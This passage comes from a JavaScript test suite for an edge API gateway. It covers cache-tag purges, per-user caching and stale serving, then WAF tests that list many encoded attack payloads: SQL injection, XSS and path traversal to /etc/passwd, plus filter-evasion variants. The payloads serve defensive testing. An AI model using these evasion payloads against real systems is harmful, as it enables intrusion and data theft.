    origin.reset();
    const stamp = Date.now();
    // Every fill's tag is purged before its answer arrives, as a CMS purging a hot product's tag on each of its
    // updates does.
    const { answers, gets } = await readsDuringFills(`/gw/cached?purged-often=${stamp}`, {
      answer: (n) => `v${n}`,
      meanwhile: async () => {
        const purge = await purgeTags([`often-${stamp}`]);
        await purge.arrayBuffer();
      },
      headers: { "cache-tag": `often-${stamp}` },
    });
    // The first fill was purged while they waited: they ask again, once, and take that fill's answer (asked after
    // they came, it is theirs though its tag was purged meanwhile). Before, each led a fill of its own in turn.
    assert.deepEqual(answers, ["v0", "v1", "v1", "v1"]);
    assert.equal(gets, 2, "two origin requests for the four reads");
    origin.reset();
  });

  test("cache tags are case-insensitive, as Cloudflare's purge by tag is: a purge in another case reaches the entry", async () => {
    origin.reset();
    const stamp = Date.now();
    for (const [sent, purged] of [[`Product-${stamp}`, `product-${stamp}`], [`lower-${stamp}`, `LOWER-${stamp}`]]) {
      origin.handle(versioned({ "cache-tag": sent }));
      const path = `/gw/cached?case=${sent}`;
      await (await worker.fetch(path)).arrayBuffer();
      const hit = await worker.fetch(path);
      assert.equal(hit.headers.get("x-cache"), "HIT", sent);
      await hit.arrayBuffer();
      const answer = await purgeTags([purged]);
      assert.equal(answer.status, 200);
      await answer.arrayBuffer();
      const after = await worker.fetch(path);
      assert.equal(after.headers.get("x-cache"), "MISS", `${sent} purged by ${purged}`);
      await after.arrayBuffer();
    }
    origin.reset();
  });

  test("a purge mark expires once no entry it covers can still be served (not kept in KV for ever)", async () => {
    const tag = `expiring-${Date.now()}`;
    const answer = await purgeTags([tag]);
    assert.equal(answer.status, 200);
    const { at_ms } = await answer.json();
    const { keys: marks } = await kv.list({ prefix: `gateway:purge:${tag}` });
    assert.equal(marks.length, 1);
    assert.equal(typeof marks[0].expiration, "number", "the mark expires");
    // An entry stored just before the purge lives at most its TTL (a year, +10% jitter) and a stale window (a year).
    const year = 365 * 86_400;
    assert.ok(marks[0].expiration >= Math.floor(at_ms / 1000) + Math.ceil(year * 1.1) + year, `${marks[0].expiration}`);
  });

  test("an answer with more cache tags than an entry carries is not stored, so a purge of any of them holds", async () => {
    origin.reset();
    const stamp = Date.now();
    const tags = Array.from({ length: 20 }, (_, i) => `many-${i}-${stamp}`);
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "cache-tag": tags.join(",") }).end("tagged"));
    const path = `/gw/cached?tags=${stamp}`;
    for (const round of [1, 2]) {
      const r = await worker.fetch(path, { headers: { "x-request-id": `many-tags-${stamp}-${round}` } });
      assert.equal(await r.text(), "tagged");
      assert.equal(r.headers.get("x-cache"), "MISS", `round ${round}: never stored, so never served past a purge of tag 20`);
    }
    assert.equal(origin.requests.length, 2);
    // The operator's line names the request whose answer went unstored.
    const logged = (round) => worker.jsonLogs().find((l) =>
      l.msg === "gateway answer not stored: more cache tags than an entry carries" && l.request_id === `many-tags-${stamp}-${round}`);
    await until(() => logged(1) && logged(2), { what: "each unstored answer logged with its request id" });
    origin.reset();
  });

  test("a per-user entry is kept apart by the credentials its fill carries, not only by the X-User-* identity", async () => {
    origin.reset();
    // An origin that reads the token itself and answers by a claim the identity headers leave out.
    origin.handle((req, body, res) => {
      const claims = JSON.parse(Buffer.from(req.headers.authorization.split(".")[1], "base64url").toString());
      res.writeHead(200, { "content-type": "text/plain" }).end(`scope ${claims.scope}`);
    });
    const path = `/gw/me/scoped?${Date.now()}`;
    const broad = token(keys, "ed1", { sub: "carol", scope: "all" });
    const narrow = token(keys, "ed1", { sub: "carol", scope: "profile" });
    const first = await worker.fetch(path, { headers: bearer(broad) });
    assert.equal(await first.text(), "scope all");
    const other = await worker.fetch(path, { headers: bearer(narrow) });
    assert.equal(await other.text(), "scope profile", "the narrower token is not served the broader one's answer");
    assert.equal(other.headers.get("x-cache"), "MISS");
    const again = await worker.fetch(path, { headers: bearer(broad) });
    assert.equal(again.headers.get("x-cache"), "HIT", "the same token still hits");
    assert.equal(await again.text(), "scope all");
    origin.reset();
  });

  test("a per-user policy stores an answer saying Vary: Authorization, as its key holds the credentials", async () => {
    origin.reset();
    // A token-authenticated API says its answers vary by the token, as it must tell a shared cache.
    origin.handle((req, body, res) =>
      res.writeHead(200, { "content-type": "text/plain", vary: "Authorization" }).end(`for ${req.headers["x-user-id"]}`));
    const path = `/gw/me/vary?${Date.now()}`;
    const dana = token(keys, "ed1", { sub: "dana" });
    for (const state of ["MISS", "HIT"]) {
      const r = await worker.fetch(path, { headers: bearer(dana) });
      assert.equal(await r.text(), "for dana", state);
      assert.equal(r.headers.get("x-cache"), state, "stored under dana's key, and served from it");
    }
    const erin = await worker.fetch(path, { headers: bearer(token(keys, "ed1", { sub: "erin" })) });
    assert.equal(await erin.text(), "for erin", "another user's token is not served dana's answer");
    assert.equal(erin.headers.get("x-cache"), "MISS");
    assert.equal(origin.requests.length, 2, "one origin request per user");
    origin.reset();
  });

  test("a per-user answer saying Vary: Authorization to a session user is stored by the user and the Authorization its fill sent", async () => {
    origin.reset();
    origin.handle((req, body, res) =>
      res.writeHead(200, { "content-type": "text/plain", vary: "Authorization" })
        .end(`for ${req.headers["x-user-id"]} by ${req.headers.authorization ?? "none"}`));
    const path = `/gw/yours?${Date.now()}`;
    const alice = (await login()).cookie;
    const bob = (await login(DEMO_USERS.find((u) => u.email === "bob@example.com"))).cookie;
    // Another scheme than Bearer is the origin's: the user comes from the cookie, and the origin may answer by it.
    const basic = "Basic b3JpZ2luOnNlY3JldA==";
    // (cookie, Authorization, x-cache, the answer, why)
    for (const [cookie, authorization, state, answer, why] of [
      [alice, undefined, "MISS", "for user-alice by none", "the first fill"],
      [alice, undefined, "HIT", "for user-alice by none", "stored, though it says Vary: Authorization"],
      [alice, basic, "MISS", `for user-alice by ${basic}`, "an Authorization the copy's fill did not send is not served it"],
      [bob, basic, "MISS", `for user-bob by ${basic}`, "nor is another user sending the same Authorization"],
      [bob, basic, "HIT", `for user-bob by ${basic}`, "who has a copy of their own"],
    ]) {
      const r = await worker.fetch(path, { headers: { cookie, ...(authorization ? { authorization } : {}) } });
      assert.equal(await r.text(), answer, why);
      assert.equal(r.headers.get("x-cache"), state, why);
      assert.match(r.headers.get("vary") ?? "", /\bCookie\b/, "the user comes from the cookie: a browser keys its copy by it");
    }
    assert.equal(origin.requests.length, 3);
    origin.reset();
  });

  test("a per-user answer tells the browser it varies by the credentials (Authorization, Cookie)", async () => {
    origin.reset();
    origin.handle((req, body, res) =>
      res.writeHead(200, { "content-type": "text/plain", etag: '"p1"' }).end(`for ${req.headers["x-user-id"]}`));
    const fields = (r) => (r.headers.get("vary") ?? "").split(",").map((f) => f.trim().toLowerCase()).sort();
    // Told `private, max-age=30` without them, a browser answered the next user signed in on it (a token of its
    // own, or a session cookie) with the first one's copy from its own cache, never asking the gateway.
    const path = `/gw/me/browser?${Date.now()}`;
    const headers = bearer(token(keys, "ed1", { sub: "frank" }));
    for (const [state, extra] of [["MISS", {}], ["HIT", {}], ["HIT", { "if-none-match": '"p1"' }]]) {
      const r = await worker.fetch(path, { headers: { ...headers, ...extra } });
      await r.arrayBuffer();
      assert.equal(r.headers.get("x-cache"), state);
      assert.equal(r.status, extra["if-none-match"] ? 304 : 200, "a 304 says what its 200 would (RFC 9110 §15.4.5)");
      assert.equal(r.headers.get("cache-control"), "private, max-age=30");
      assert.deepEqual(fields(r), ["accept-encoding", "authorization", "cookie", "origin"], `${state} ${r.status}`);
    }
    // A shared policy's answer is every requester's: it varies by neither.
    const shared = await worker.fetch(`/gw/cached?browser=${Date.now()}`, { headers });
    await shared.arrayBuffer();
    assert.deepEqual(fields(shared), ["accept-encoding", "origin"]);
    origin.reset();
  });

  test("answers from a stored copy (HIT, 304, STALE) carry x-cache alone, not the Cache API's cf-cache-status", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      // An origin behind a CDN of its own says its word too: that is not the gateway's either.
      res.writeHead(200, { "content-type": "text/plain", etag: '"s1"', "cf-cache-status": "DYNAMIC" });
      res.end("stored");
    });
    const path = `/gw/swr?cf=${Date.now()}`;
    const miss = await worker.fetch(path);
    assert.equal(miss.headers.get("x-cache"), "MISS");
    assert.equal(miss.headers.get("cf-cache-status"), null, "the origin's CDN status is not the gateway's");
    await miss.text();
    // Past its 1 s TTL the copy is read from the Cache API and served STALE; the refreshed copy then stands in the
    // Cache API beside it, so every answer after the first is read from there (none is a fill's, handed on).
    const stale = await until(async () => {
      const r = await worker.fetch(path);
      await r.text();
      return r.headers.get("x-cache") === "STALE" ? r : null;
    }, { what: "a STALE answer" });
    assert.equal(stale.headers.get("cf-cache-status"), null, "STALE");
    const hit = await until(async () => {
      const r = await worker.fetch(path);
      await r.text();
      return r.headers.get("x-cache") === "HIT" ? r : null;
    }, { what: "a HIT of the refreshed copy" });
    assert.equal(hit.headers.get("cf-cache-status"), null, "HIT");
    const revalidated = await worker.fetch(path, { headers: { "if-none-match": '"s1"' } });
    assert.equal(revalidated.status, 304);
    assert.equal(revalidated.headers.get("cf-cache-status"), null, "304");
    await revalidated.text();
    origin.reset();
  });

  test("stale-while-revalidate serves the stale copy and refreshes it in the background", async () => {
    origin.reset();
    version = 1;
    origin.handle(versioned());
    const path = `/gw/swr?k=${Date.now()}`;
    assert.equal((await (await worker.fetch(path)).json()).version, 1);
    version = 2;
    const stale = await until(async () => {
      const r = await worker.fetch(path);
      const v = (await r.json()).version;
      return r.headers.get("x-cache") === "STALE" ? { v } : null;
    }, { what: "a STALE answer" });
    assert.equal(stale.v, 1, "the stale copy is served");
    await until(async () => {
      const r = await worker.fetch(path);
      const v = (await r.json()).version;
      return r.headers.get("x-cache") === "HIT" && v === 2;
    }, { what: "the refreshed copy" });
  });

  /** Caches version 1 of a fresh key under `route`, then has the origin answer it 404 "gone"; returns the path. */
  async function cachedThenGone(route) {
    origin.reset();
    version = 1;
    origin.handle(versioned());
    const path = `${route}?k=${Date.now()}`;
    assert.equal((await (await worker.fetch(path)).json()).version, 1);
    // Stored (a HIT), then aged past its 1 s TTL: the next request asks the origin, which says it is gone.
    await until(async () => {
      const r = await worker.fetch(path);
      return r.headers.get("x-cache") === "HIT" && (await r.json()).version === 1;
    }, { what: "the copy stored" });
    await age(worker, "edge-cache", 1_200);
    origin.handle((req, body, res) => {
      res.writeHead(404, { "content-type": "text/plain" });
      res.end("gone");
    });
    return path;
  }

  test("with negative_ttl 0, a refresh answered 404 takes the stale copy down: the 404 is not stored, the 200 not served on", async () => {
    const path = await cachedThenGone("/gw/swr-no-negative");
    // Past its 1 s TTL the copy is served STALE once, and its refresh is told 404.
    await until(async () => {
      const r = await worker.fetch(path);
      await r.text();
      return r.headers.get("x-cache") === "STALE";
    }, { what: "a STALE answer" });
    // The origin says it is gone: within the hour of stale-while-revalidate the old 200 is not served again.
    const gone = await until(async () => {
      const r = await worker.fetch(path);
      const text = await r.text();
      return r.status === 404 ? { r, text } : null;
    }, { ms: 3000, what: "the 404, not the stale 200 its refresh was told is gone" });
    assert.equal(gone.text, "gone");
    assert.equal(gone.r.headers.get("x-cache"), "MISS");
    assert.equal(gone.r.headers.get("cache-control"), "no-cache");
    const again = await worker.fetch(path);
    await again.text();
    assert.equal(again.status, 404, "not stored, and the 200 stays down");
    assert.equal(again.headers.get("x-cache"), "MISS");
    origin.reset();
  });

  test("a refresh answered for anyone but not stored (too large, a 403, a redirect) takes the stale copy down: the old 200 is not served on", async () => {
    const answers = {
      "too large": (res) => res.writeHead(200, { "content-type": "text/plain" }).end(Buffer.alloc(CACHE_MAX_BODY_BYTES + 1, 97)),
      403: (res) => res.writeHead(403, { "content-type": "text/plain" }).end("forbidden now"),
      302: (res) => res.writeHead(302, { location: "/elsewhere", "content-type": "text/plain" }).end("moved"),
    };
    for (const [label, answer] of Object.entries(answers)) {
      const path = await staleCopy(`unstored-refresh-${label.replace(" ", "-")}`);
      let asked = 0;
      origin.handle((req, body, res) => {
        asked += 1;
        answer(res);
      });
      // Past its TTL the copy is served STALE once; its refresh gets the origin's new answer, which is not stored.
      const stale = await worker.fetch(path, { redirect: "manual" });
      assert.equal(`${stale.headers.get("x-cache")} ${await stale.text()}`, "STALE copy 1", label);
      await untilNoRefresh();
      assert.equal(asked, 1, `${label}: the refresh asked the origin`);
      // Within the hour of stale-while-revalidate, the next request is the origin's answer, not the old 200. Before,
      // the stale copy was served for the whole window, each request's refresh asking the origin for nothing.
      const next = await worker.fetch(path, { redirect: "manual" });
      const text = await next.text();
      assert.notEqual(text, "copy 1", `${label}: the stale copy is not served on`);
      assert.equal(next.headers.get("x-cache"), "MISS", label);
      assert.equal(next.status, label === "too large" ? 200 : Number(label), label);
    }
    origin.reset();
  });

  test("a refresh whose body is only slower than the fill's budget leaves the stale copy in service", async () => {
    const path = await staleCopy("slow-refresh");
    let asked = 0;
    origin.handle(async (req, body, res) => {
      asked += 1;
      await streamsFor900ms(req, body, res);
    });
    const stale = await worker.fetch(path);
    assert.equal(`${stale.headers.get("x-cache")} ${await stale.text()}`, "STALE copy 1");
    await untilNoRefresh();
    assert.equal(asked, 1, "the refresh asked the origin");
    // Its body came past GATEWAY_CACHE_FILL_BODY_MS (600 ms here) and was not held: the origin is slow, the copy not
    // wrong. Taken down, every request would wait on that slow origin instead.
    const next = await worker.fetch(path);
    assert.equal(`${next.headers.get("x-cache")} ${await next.text()}`, "STALE copy 1");
    await untilNoRefresh();
    origin.reset();
  });

  test("with negative_ttl 0, a 404 the origin answers past the TTL takes the copy down: a later 5xx does not serve it", async () => {
    const path = await cachedThenGone("/gw/sie-no-negative");
    await until(async () => {
      const r = await worker.fetch(path);
      await r.text();
      return r.status === 404;
    }, { what: "the 404 past the copy's TTL" });
    origin.handle((req, body, res) => {
      res.writeHead(503);
      res.end("down");
    });
    // The copy is gone (deleted in the background): an outage now is answered as it is, not with the 200.
    const outage = await until(async () => {
      const r = await worker.fetch(path);
      await r.text();
      return r.status === 503 ? r : null;
    }, { ms: 2000, what: "the 503, not the 200 the origin said was gone" });
    assert.equal(outage.headers.get("x-cache"), "MISS");
    origin.reset();
  });

  test("stale-if-error serves the stored copy when the origin fails, times out or is down", async () => {
    origin.reset();
    version = 5;
    origin.handle(versioned());
    const path = `/gw/sie?k=${Date.now()}`;
    const primed = Date.now();
    assert.equal((await (await worker.fetch(path)).json()).version, 5);
    await until(async () => (await worker.fetch(path)).headers.get("x-cache") === "HIT", { what: "the copy stored" });
    // Aged past its 1 s TTL: its Age counts the aging as time passed.
    const AGED_MS = 1_200;
    await age(worker, "edge-cache", AGED_MS);
    origin.handle((req, body, res) => {
      res.writeHead(503);
      res.end("down for maintenance");
    });
    const stale = await until(async () => {
      const r = await worker.fetch(path);
      const text = await r.text();
      return r.headers.get("x-cache") === "STALE" ? { status: r.status, text, age: r.headers.get("age") } : null;
    }, { what: "a stale answer on a 5xx" });
    assert.equal(stale.status, 200);
    assert.equal(JSON.parse(stale.text).version, 5);
    assert.match(stale.age ?? "", /^[0-9]+$/, "a stale copy says its age");
    assert.ok(Number(stale.age) >= 1, `Age ${stale.age}: the copy aged past its TTL`);
    assert.ok(Number(stale.age) * 1000 <= Date.now() - primed + AGED_MS, `Age ${stale.age} within the time since it was stored`);
    // The 503 holds the key's copy served without asking (the next test): that hold ended, the origin is asked.
    await age(worker, "refresh-holds", 300_000);
    let askedLate = 0;
    origin.handle(async (req, body, res) => {
      askedLate += 1;
      await delay(1000);
      res.end("late");
    });
    const timedOut = await worker.fetch(path);
    assert.equal(askedLate, 1, "the origin was asked, and timed out");
    assert.equal(timedOut.headers.get("x-cache"), "STALE", "timeout → stale");
    await timedOut.arrayBuffer();
    origin.reset();

    downOrigin.handle(versioned());
    const downPath = `/gw/sie-down?k=${Date.now()}`;
    await (await worker.fetch(downPath)).arrayBuffer();
    await until(async () => (await worker.fetch(downPath)).headers.get("x-cache") === "HIT", { what: "the copy stored" });
    await age(worker, "edge-cache", AGED_MS);
    await downOrigin.stop();
    const served = await until(async () => {
      const r = await worker.fetch(downPath);
      const text = await r.text();
      return r.headers.get("x-cache") === "STALE" ? { status: r.status } : null;
    }, { what: "a stale answer with the origin down" });
    assert.equal(served.status, 200);
  });

  test("stale-if-error answers a copy whose origin just failed without asking it again; a 429 holds nothing", async () => {
    origin.reset();
    let n = 0;
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${++n}`));
    const path = `/gw/sie?held=${Date.now()}`;
    assert.equal(await (await worker.fetch(path)).text(), "copy 1");
    await until(async () => (await worker.fetch(path)).headers.get("x-cache") === "HIT", { what: "the copy stored" });
    await age(worker, "edge-cache", 1_200);
    let asked = 0;
    origin.handle((req, body, res) => {
      asked += 1;
      res.writeHead(503, { "content-type": "text/plain" }).end("down");
    });
    for (let i = 1; i <= 5; i++) {
      const r = await worker.fetch(path);
      assert.equal(`${r.status} ${r.headers.get("x-cache")} ${await r.text()}`, "200 STALE copy 1", `request ${i}`);
    }
    // Before, each request asked the origin (and waited out its timeout when it hung) for the copy it then served.
    assert.equal(asked, 1, "the first request alone asks the origin: the others are served the copy at once");
    // Once the hold ends (GATEWAY_REFRESH_HOLD_MS), the origin is asked again: here it is back.
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${++n}`));
    await age(worker, "refresh-holds", 300_000);
    const back = await worker.fetch(path);
    assert.equal(`${back.status} ${await back.text()}`, "200 copy 2", "asked again after the hold");
    // A 429 is no error stale-if-error covers (RFC 5861 §4): each request is answered it, and asks.
    const limited = `/gw/sie?held-429=${Date.now()}`;
    assert.equal((await worker.fetch(limited)).status, 200);
    await until(async () => (await worker.fetch(limited)).headers.get("x-cache") === "HIT", { what: "the copy stored" });
    await age(worker, "edge-cache", 1_200);
    asked = 0;
    origin.handle((req, body, res) => {
      asked += 1;
      res.writeHead(429, { "content-type": "text/plain", "retry-after": "60" }).end("slow down");
    });
    for (let i = 1; i <= 2; i++) {
      const r = await worker.fetch(limited);
      assert.equal(`${r.status} ${await r.text()}`, "429 slow down", `429 request ${i}`);
    }
    assert.equal(asked, 2, "a 429 holds off no request");
    origin.reset();
  });
});

describe("WAF", () => {
  test("a route's waf_body mode replaces the global one for its bodies, and only for them", async () => {
    const attack = JSON.stringify({ q: "x' union select password from users--" });
    const json = { "content-type": "application/json" };
    const blocked = await worker.fetch("/gw/open/echo", { method: "POST", headers: json, body: attack });
    assert.equal(blocked.status, 403, "the global mode blocks it");
    assert.equal(blocked.headers.get("x-waf-rule"), "sqli-union");
    await blocked.arrayBuffer();
    // `off`: the body reaches the origin as sent, in a coding the WAF cannot read too.
    const { brotliCompressSync } = await import("node:zlib");
    const brotli = brotliCompressSync(Buffer.from(attack));
    for (const [body, headers] of [[attack, json], [brotli, { ...json, "content-encoding": "br" }]]) {
      const r = await worker.fetch("/gw/raw", { method: "PUT", headers, body });
      assert.equal(r.status, 200, String(headers["content-encoding"]));
      await r.arrayBuffer();
      assert.deepEqual(lastRequest().body, Buffer.from(body), "the bytes as sent");
    }
    // The request line is checked before a route is chosen: always in the global mode.
    const inUrl = await worker.fetch("/gw/raw?id=1%20union%20select%20pw", { method: "PUT", headers: json, body: "{}" });
    assert.equal(inUrl.status, 403);
    assert.equal(inUrl.headers.get("x-waf-rule"), "sqli-union");
    await inUrl.arrayBuffer();
    // `log`: passed and logged.
    const watched = await worker.fetch("/gw/watched", { method: "POST", headers: json, body: attack });
    assert.equal(watched.status, 200);
    const requestId = watched.headers.get("x-request-id");
    await watched.arrayBuffer();
    const line = await until(() => worker.jsonLogs().find((l) => l.msg === "waf" && l.request_id === requestId), { what: "the WAF's log line" });
    assert.equal(line.rule, "sqli-union");
    assert.equal(line.mode, "log");
  });

  test("a spelling of a checked route's path that meets a waf_body route is ambiguous, never forwarded unchecked", async () => {
    // Each matches /gw/raw (bodies unchecked) as spelled, and /gw/raw/meta (bodies blocked) as an origin reads it.
    const attack = JSON.stringify({ q: "x' union select password from users--" });
    const direct = await worker.fetch("/gw/raw/meta", { method: "PUT", headers: { "content-type": "application/json" }, body: attack });
    assert.equal(direct.status, 403, "blocked on its own route");
    await direct.arrayBuffer();
    origin.reset();
    for (const path of ["/gw/raw/meta;v=1", "/gw/raw/meta%2F", "/gw/raw/META"]) {
      const r = await worker.fetch(path, { method: "PUT", headers: { "content-type": "application/json" }, body: attack });
      assert.equal(r.status, 400, path);
      assert.equal((await r.json()).error.code, "ambiguous_path", path);
    }
    assert.equal(origin.requests.length, 0, "nothing reached the origin");
  });

  // The first bytes of a PNG (signature, IHDR of a 16×16 RGBA image).
  const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 0x10, 0, 0, 0, 0x10, 8, 6, 0, 0, 0]);
  // A multipart upload: a PNG file part, then a text field holding `caption`.
  const multipart = (caption) => {
    const text = (s) => new TextEncoder().encode(s.replaceAll("\n", "\r\n"));
    const file = text('--edgekit-form\nContent-Disposition: form-data; name="photo"; filename="cat.png"\nContent-Type: image/png\n\n');
    const field = text(`\n--edgekit-form\nContent-Disposition: form-data; name="caption"\n\n${caption}\n--edgekit-form--\n`);
    return new Uint8Array([...file, ...PNG, ...field]);
  };
  const attacks = [
    ["/gw/open/search?q=1%27%20OR%20%271%27%3D%271", "sqli-tautology"],
    ["/gw/open/search?id=1%20UNION%20SELECT%20password%20FROM%20users", "sqli-union"],
    ["/gw/open/search?id=1%20union%2F**%2Fselect%20*", "sqli-union"],
    ["/gw/open/search?id=1%20UNION%2F*x*%2FSELECT%20pw", "sqli-union"],
    ["/gw/open/search?id=1%20UNION%2F*!50000SELECT*%2Fpw", "sqli-union"],
    ["/gw/open/search?id=1%2527%2520OR%25201%253D1", "sqli-tautology"],
    ["/gw/open/search?u=admin%27--", "sqli-comment"],
    ["/gw/open/search?id=1%3B%20DROP%20TABLE%20users", "sqli-stacked"],
    ["/gw/open/search?t=1%20AND%20SLEEP(5)", "sqli-function"],
    ["/gw/open/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss-script"],
    ["/gw/open/search?q=%253Cscript%253Ealert(1)", "xss-script"],
    ["/gw/open/search?next=javascript:alert(document.cookie)", "xss-scheme"],
    ["/gw/open/search?q=%3Cdiv%20onmouseover%3Dsteal()%3E", "xss-event-handler"],
    ["/gw/open/search?q=%3Csvg%2Fonload%3Dx%3E", "xss-script"],
    ["/gw/open/files?f=..%2F..%2Fetc%2Fpasswd", "traversal-dotdot"],
    ["/gw/open/files?f=%252e%252e%252f%252e%252e%252fsecret", "traversal-dotdot"],
    ["/gw/open/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "traversal-dotdot"],
    ["/gw/open/files?f=..%5C..%5Cwindows%5Cwin.ini", "traversal-dotdot"],
    // The tamper sweep: a blind call of a column in a list with more members or in parentheses of its own, two
    // names in a range, sqlmap's `percentage` (a `%` classic ASP drops) and `scientific` (`1.e` MySQL drops).
    ["/gw/open/search?id=1%20and%205%20in%20((length(password)))", "sqli-tautology"],
    ["/gw/open/search?id=1%20and%205%20in%20(length(password)%2C-1)", "sqli-tautology"],
    ["/gw/open/search?id=1%20or%20x%20between%20y%20and%20y", "sqli-tautology"],
    ["/gw/open/search?id=%1%20%U%N%I%O%N%20%A%L%L%20%S%E%L%E%C%T%20%N%U%L%L%%2C%N%U%L%L%%23", "sqli-union"],
    ["/gw/open/search?id=1%20AND%20SLEEP%201.e%285%201.e%29", "sqli-function"],
    // `scientific` spread through a blind probe's nested calls: read without the `1.e` MySQL drops, by every rule.
    ["/gw/open/search?id=1%20OR%20IFNULL%201.e%28ASCII%201.e%28SUBSTR%201.e%28user%201.e%28%201.e%29%201.e%2C1%201.e%2C1%201.e%29%201.e%29%201.e%2C0%201.e%29%3E64", "sqli-tautology"],
    // Spellings a lenient reader undoes: browsers (references, tabs in a scheme), NFKC back ends (fullwidth),
    // old IIS/Tomcat (overlong UTF-8), and input encoded past any round a filter stops at.
    ["/gw/open/search?next=java%09script:prompt(1)", "xss-scheme"],
    ["/gw/open/search?next=javascript%26colon;prompt(1)", "xss-scheme"],
    ["/gw/open/search?q=%26%2360script%3Eprompt(1)", "xss-script"],
    ["/gw/open/search?q=%EF%BC%9Cscript%EF%BC%9Eprompt(1)", "xss-script"],
    ["/gw/open/files?f=%c0%ae%c0%ae%c0%afsecret", "traversal-dotdot"],
    ["/gw/open/files?f=%252525252e%252525252e%252525252fsecret", "traversal-dotdot"],
    [`/gw/open/files?f=${`%${"25".repeat(16)}2e`.repeat(2)}%${"25".repeat(16)}2fsecret`, "encoding-depth"],
    ["/gw/open/search?u=%27%7C%7C%271%27%3D%271", "sqli-tautology"],
    ["/gw/open/search?u=x%27%20or%20%27b%27%3D%27b", "sqli-tautology"],
    // The payload review: SQL line comments, `(` and blanks between tokens, MariaDB's executable comments, quotes
    // that close an attribute, tags a quote does not hide, JSON escapes in a value, redundant path separators,
    // statements the list lacked.
    ["/gw/open/search?id=1+union%23x%0Aselect+password", "sqli-union"],
    ["/gw/open/search?id=1+union--%0Aselect+password", "sqli-union"],
    ["/gw/open/search?id=1+union(select+password+from+users)", "sqli-union"],
    ["/gw/open/search?id=1%2F*M!50000union*%2F+select+password", "sqli-union"],
    ["/gw/open/search?t=1+and+sleep+(5)", "sqli-function"],
    ["/gw/open/search?t=1+and+sleep%2F**%2F(5)", "sqli-function"],
    ["/gw/open/search?t=benchmark+(5000000%2Cmd5(1))", "sqli-function"],
    ["/gw/open/search?t=pg_sleep+(5)", "sqli-function"],
    ["/gw/open/search?u=admin%27+%23", "sqli-comment"],
    ["/gw/open/search?u=admin%27%09%23", "sqli-comment"],
    ["/gw/open/search?u=%27or(1)%3D(1)--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+2%3E1--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+true%23", "sqli-tautology"],
    ["/gw/open/search?q=%22+autofocus+onfocus%3D%22prompt(1)", "xss-event-handler"],
    ["/gw/open/search?q=%22+onmouseover%3D%22prompt(1)", "xss-event-handler"],
    ["/gw/open/search?q=%3Ca+x%22y%3D%22%3E%22+onmouseover%3Dprompt(1)%3E", "xss-event-handler"],
    ["/gw/open/search?q=%3Ca+x%3Db%3D%22c+y%3D%22%3E%22+onmouseover%3Dprompt(1)%3E", "xss-event-handler"],
    ["/gw/open/search?variables=%7B%22q%22%3A%22%5Cu003cscript%5Cu003eprompt(1)%22%7D", "xss-script"],
    ["/gw/open/search?q=%3Cbase%2Fhref%3D%2F%2Fevil.example%2F%3E", "xss-script"],
    ["/gw/open/files?f=%2Fetc%2F%2Fpasswd", "traversal-file"],
    ["/gw/open/files?f=%2Fetc%2F.%2Fpasswd", "traversal-file"],
    ["/gw/open/search?id=1%3B+drop+database+shop", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+truncate+table+users", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+exec(%27xp_x%27)", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+grant+all+privileges+on+*.*+to+%27x%27", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+alter+user+root+identified+by+%27x%27", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+update+users+set+role%3D%27admin%27", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+shutdown+with+nowait", "sqli-stacked"],
    ["/gw/open/search?id=1%3B+insert+into+users+values(1)", "sqli-stacked"],
    // The second payload review: an unclosed /* (inside a string literal) leaves the # comment after it removed.
    ["/gw/open/search?id=1+and+%27x%2F*%27+union%23x%0Aselect+password+from+users", "sqli-union"],
    // JSON in a value is decoded whatever escape it holds, not only \u.
    ["/gw/open/search?q=%7B%22u%22%3A%22java%5Ctscript%3Aprompt(1)%22%7D", "xss-scheme"],
    ["/gw/open/files?q=%7B%22f%22%3A%22%5C%2Fetc%5C%2Fpasswd%22%7D", "traversal-file"],
    ["/gw/open/search?u=%27+or+id%3E0--+-", "sqli-tautology"],
    ["/gw/open/search?q=%22+autofocus+onvisibilitychange%3D%22prompt(1)", "xss-event-handler"],
    ["/gw/open/search?q=%22onfuturething%3Dprompt(1)", "xss-event-handler"],
    ["/gw/open/search?id=1+union%2F*%2F**%2F*%2Fselect+password+from+users", "sqli-union"],
    ["/gw/open/search?id=1+union%01select+password+from+users", "sqli-union"],
    ["/gw/open/search?id=1%3B%01update+users+set+role%3D%27admin%27", "sqli-stacked"],
    // The third payload review: numeric injections ordering names, an open quote after one, in/between/is/not.
    ["/gw/open/search?id=1+or+id%3E0", "sqli-tautology"],
    ["/gw/open/search?id=5+or+price%3E0", "sqli-tautology"],
    ["/gw/open/search?user=admin%27+or+id%3E0+or+%27", "sqli-tautology"],
    ["/gw/open/search?user=%27+or+id%3E0+and+%27%27%3D%27", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+id%3C%3E0+or+%27", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+1+in+(1)--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+2+between+1+and+3--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+1+is+not+null--+-", "sqli-tautology"],
    ["/gw/open/search?u=%27+or+not+0--+-", "sqli-tautology"],
    // A comment marker inside a string (or MySQL's arithmetic 1--1) hides no union/**/select: read where it stands.
    ["/gw/open/search?id=-1+and+%27a--%27%3D%27b%27+union%2F**%2Fselect+user%2Cpassword+from+users", "sqli-union"],
    ["/gw/open/search?id=1+and+%27a%23%27%3D%27b%27+union%2F**%2Fselect+user%2Cpassword+from+users", "sqli-union"],
    ["/gw/open/search?id=-1+and+%27a%2F*%27%3D%27%27+union%2F**%2Fselect+password%2C%27*%2F%27+from+users", "sqli-union"],
